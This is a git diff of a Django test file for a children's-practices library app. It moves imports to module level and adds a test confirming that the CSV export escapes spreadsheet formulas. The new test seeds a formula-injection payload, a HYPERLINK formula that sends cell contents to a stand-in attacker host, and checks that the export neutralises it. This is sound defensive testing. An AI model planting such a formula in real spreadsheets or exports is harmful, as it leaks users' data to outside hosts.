@@ -5,10 +5,11 @@ import io
 import json
 
 import pytest
+from django.http import QueryDict
 from django.urls import reverse
 
 from enfance.core.models import SearchEntry
-from enfance.practices import library
+from enfance.practices import library, library_views
 from enfance.practices.enums import EvidenceStage, PracticeLevel, PracticeState, ReferenceList
 from enfance.practices.library import LibraryQuery
 from tests.factories import DepartementFactory, RegionFactory
@@ -75,8 +76,6 @@ def get(client, **params):
 
 
 def found_titles(query_params) -> set[str]:
-    from django.http import QueryDict
-
     params = QueryDict(mutable=True)
     for key, value in query_params.items():
         params.setlist(key, value if isinstance(value, list) else [value])
@@ -133,8 +132,6 @@ def test_filters_combine_and_facets_count(fiches, paris, themes):
 
 
 def _params(**params):
-    from django.http import QueryDict
-
     query = QueryDict(mutable=True)
     for key, value in params.items():
         query.setlist(key, value if isinstance(value, list) else [value])
@@ -337,8 +334,6 @@ def test_fiche_page_queries(client, django_assert_max_num_queries, fiches):
 
 
 def test_search_rate_limit_counts_new_questions_only(client, fiches, monkeypatch):
-    from enfance.practices import library_views
-
     monkeypatch.setattr(library_views, "SEARCH_RATE", "3/m")
     for number in range(3):
         assert client.get(LIBRARY, {"q": f"mot{number}"}).status_code == 200
@@ -346,3 +341,15 @@ def test_search_rate_limit_counts_new_questions_only(client, fiches, monkeypatch
     # A question already answered is still served.
     assert client.get(LIBRARY, {"q": "mot1"}).status_code == 200
     assert client.get(LIBRARY).status_code == 200
+
+
+def test_csv_export_never_hands_a_formula_to_a_spreadsheet(client, fiches):
+    # A title typed by a declarant: opened in a spreadsheet, it must stay text.
+    published(title='=HYPERLINK("http://pirate.example/?"&A1;"Voir")', description="-2+3")
+    # No search term: PostgreSQL's parser reads the address as one host token, not a word.
+    response = client.get(reverse("practices:export_csv"))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = csv.DictReader(io.StringIO(text), delimiter=";")
+    row = next(row for row in rows if "HYPERLINK" in row["intitulé"])
+    assert row["intitulé"] == '\'=HYPERLINK("http://pirate.example/?"&A1;"Voir")'
+    assert row["description"] == "'-2+3"
